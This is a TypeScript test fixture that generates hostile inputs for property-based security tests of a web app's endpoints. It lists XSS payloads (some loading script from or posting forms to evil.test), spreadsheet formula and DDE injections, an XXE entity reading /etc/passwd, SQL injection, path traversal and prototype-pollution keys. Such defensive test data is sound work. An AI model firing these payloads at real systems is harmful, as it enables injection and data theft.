// Hostile values for the property tests and the hand-written tables: markup, spreadsheet formulas,
// odd Unicode (lone surrogates, bidi overrides, zero-width joiners, NUL), prototype keys, wrong
// types and huge strings — and fast-check arbitraries built from them.
import fc from "fast-check";

export const MARKUP = [
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "<svg/onload=alert(1)>",
  "</textarea><script>alert(1)</script>",
  "<iframe src=javascript:alert(1)>",
  "javascript:alert(1)",
  "<a href=\"javascript:alert(1)\">click</a>",
  "<!--<script>alert(1)//-->",
  "]]><script>alert(1)</script>",
  "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "<style>body{display:none}</style>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
] as const;

export const FORMULAS = ["=1+1", "=HYPERLINK(\"http://evil.test\",\"click\")", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "＝1+1", "=cmd|' /C calc'!A0"] as const;

export const ODD_UNICODE = [
  "\uD800", // lone high surrogate
  "tail \uDFFF", // lone low surrogate
  "\u202Egnp.exe\u202C", // right-to-left override
  "\u200F\u200Eמה קרה\u200F", // RTL/LTR marks around Hebrew
  "a\u200Db\u200Cc\u200Bd", // zero-width joiner, non-joiner, space
  "\uFEFFbom",
  "nul\u0000byte",
  "\u0000",
  "line\u2028separator\u2029",
  "Z\u0335\u0321a\u0338l\u0336g\u0337o\u0334",
  "👩‍👩‍👧‍👦🏳️‍🌈",
  "\u0007\u001b[31mred\u001b[0m",
  "ｆｕｌｌｗｉｄｔｈ",
  "ﷺ𒐫",
] as const;

export const PROTO_KEYS = ["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf", "__defineGetter__"] as const;

// An object with an own key that a naive copy would turn into a prototype.
export function withOwnKey(base: Record<string, unknown>, key: string, value: unknown): Record<string, unknown> {
  const out: Record<string, unknown> = { ...base };
  Object.defineProperty(out, key, { value, enumerable: true, configurable: true, writable: true });
  return out;
}

export const POLLUTION = { polluted: "yes" };

export function prototypeIsClean(): boolean {
  const probe = {} as Record<string, unknown>;
  return probe.polluted === undefined && Object.keys(Object.prototype).length === 0 && Object.prototype.toString === Object.prototype.toString;
}

// Past every field's limit (the longest is 100,000 characters); bodies of megabytes are hand-written cases.
const huge = fc.constantFrom(1_001, 20_001, 100_001).chain((n) => fc.constantFrom("A", "<", "é", "\uD800", "\u202E").map((c) => c.repeat(n)));

const oddUnit = fc.oneof(
  fc.constantFrom("\u0000", "\uD800", "\uDC00", "\u202E", "\u200D", "\u200F", "\uFEFF", "<", ">", "&", '"', "'", "=", "\n", "\\"),
  fc.integer({ min: 0, max: 0xffff }).map((n) => String.fromCharCode(n)),
  fc.string({ unit: "grapheme", minLength: 1, maxLength: 1 }),
);

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.string({ unit: oddUnit, maxLength: 40 }), weight: 4 },
  { arbitrary: fc.constantFrom<string>(...MARKUP, ...FORMULAS, ...ODD_UNICODE, "", " ", "0", "-1", "1e309", "NaN", "true", "null", "on"), weight: 4 },
  { arbitrary: huge, weight: 1 },
);

const oddNumber = fc.oneof(fc.integer(), fc.double(), fc.constantFrom(NaN, Infinity, -Infinity, -0, 1e308, Number.MAX_SAFE_INTEGER + 2, -1));

const leaf: fc.Arbitrary<unknown> = fc.oneof(
  { arbitrary: hostileString, weight: 6 },
  { arbitrary: oddNumber, weight: 2 },
  { arbitrary: fc.constantFrom(true, false, null, undefined), weight: 2 },
  { arbitrary: fc.bigInt(), weight: 1 },
  { arbitrary: fc.date({ noInvalidDate: false }), weight: 1 },
  { arbitrary: fc.constantFrom(new File(["<script>"], "x.html", { type: "text/html" }), new Blob(["x"])), weight: 1 },
);

// Any value a server action could be handed: what React decodes from a request is JSON-like plus
// undefined, Dates, BigInts, Maps, Sets, Files.
export const hostileValue: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: "small", withCrossShrink: true },
    { arbitrary: leaf, weight: 8 },
    { arbitrary: fc.array(tie("value"), { maxLength: 4 }), weight: 1 },
    { arbitrary: fc.array(fc.tuple(fc.oneof(fc.constantFrom<string>(...PROTO_KEYS), fc.string({ maxLength: 8 })), tie("value")), { maxLength: 4 }).map(toObject), weight: 1 },
    { arbitrary: fc.array(tie("value"), { maxLength: 3 }).map((v) => new Set(v)), weight: 1 },
  ),
})).value;

function toObject(entries: [string, unknown][]): Record<string, unknown> {
  return entries.reduce<Record<string, unknown>>((o, [k, v]) => withOwnKey(o, k, v), {});
}

const pollutionAttempt = fc.constantFrom<[string, unknown]>(
  ["__proto__", POLLUTION],
  ["constructor", { prototype: POLLUTION }],
  ["prototype", POLLUTION],
  ["__proto__", JSON.parse('{"__proto__": {"polluted": "yes"}}')],
);

// A valid input with one to three fields changed: a hostile value, a deleted field, a prototype key.
export function mutationsOf(valid: Record<string, unknown>): fc.Arbitrary<Record<string, unknown>> {
  const keys = Object.keys(valid);
  const key = keys.length ? fc.oneof({ arbitrary: fc.constantFrom(...keys), weight: 4 }, { arbitrary: fc.constantFrom<string>(...PROTO_KEYS), weight: 1 }) : fc.constantFrom<string>(...PROTO_KEYS);
  const change = fc.oneof(
    { arbitrary: fc.tuple(key, hostileValue).map(([k, v]) => (o: Record<string, unknown>) => withOwnKey(o, k, v)), weight: 6 },
    { arbitrary: key.map((k) => (o: Record<string, unknown>) => { const c = { ...o }; delete c[k]; return c; }), weight: 1 },
    { arbitrary: pollutionAttempt.map(([k, v]) => (o: Record<string, unknown>) => withOwnKey(o, k, v)), weight: 1 },
    // The same text with odd characters spliced in: still the right type, often still valid.
    {
      arbitrary: fc.tuple(key, fc.constantFrom<string>(...ODD_UNICODE, ...MARKUP, ...FORMULAS), fc.nat()).map(([k, odd, at]) => (o: Record<string, unknown>) => {
        const v = o[k];
        if (typeof v !== "string") return withOwnKey(o, k, odd);
        const i = v.length ? at % v.length : 0;
        return withOwnKey(o, k, v.slice(0, i) + odd + v.slice(i));
      }),
      weight: 3,
    },
  );
  return fc.array(change, { minLength: 1, maxLength: 3 }).map((fns) => fns.reduce((o, fn) => fn(o), valid));
}

// Inputs for one action: anything at all, an object of random fields, or a mutated valid input.
export function hostileInputFor(valid: Record<string, unknown>): fc.Arbitrary<unknown> {
  return fc.oneof(
    { arbitrary: hostileValue, weight: 1 },
    { arbitrary: fc.array(fc.tuple(fc.oneof(fc.constantFrom<string>(...Object.keys(valid), ...PROTO_KEYS), fc.string({ maxLength: 10 })), hostileValue), { maxLength: 6 }).map(toObject), weight: 1 },
    { arbitrary: mutationsOf(valid), weight: 3 },
  );
}

// One seed for the whole run, printed so a failure can be replayed: FC_SEED=<seed> npx vitest run …
export function propertySeed(): number {
  const fromEnv = Number(process.env.FC_SEED);
  return Number.isInteger(fromEnv) ? fromEnv : Math.floor(Math.random() * 2 ** 31);
}

// The hand-written table for the public endpoints: each is sent as customer text (a complaint, a
// story, a name) and must come back as the same text — escaped wherever it is shown.
export const HOSTILE_TEXTS: readonly string[] = [
  ...MARKUP,
  ...FORMULAS,
  ...ODD_UNICODE,
  "<b>bold</b> and <i>italic</i>",
  "<img src=x>",
  "&amp; &lt;script&gt; &#x3C;script&#x3E;",
  "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
  "<base href=\"//evil.test/\">",
  "<meta http-equiv=\"refresh\" content=\"0;url=//evil.test\">",
  "<form action=//evil.test><button>Claim refund</button></form>",
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
  "<template><script>alert(1)</script></template>",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<div style=\"background:url(javascript:alert(1))\">x</div>",
  "<link rel=stylesheet href=//evil.test/x.css>",
  "\"'`;--",
  "'); DROP TABLE \"FeedbackItem\"; --",
  "../../../../etc/passwd",
  "line one\nline two\r\nline three",
  "(parentheses) \\backslash\\ in a PDF string",
  "emoji 🙃 and 漢字 and العربية",
  "\u00a0non-breaking\u00a0spaces\u00a0",
  "%",
  "_",
  "50%_off \\ today",
] as const;
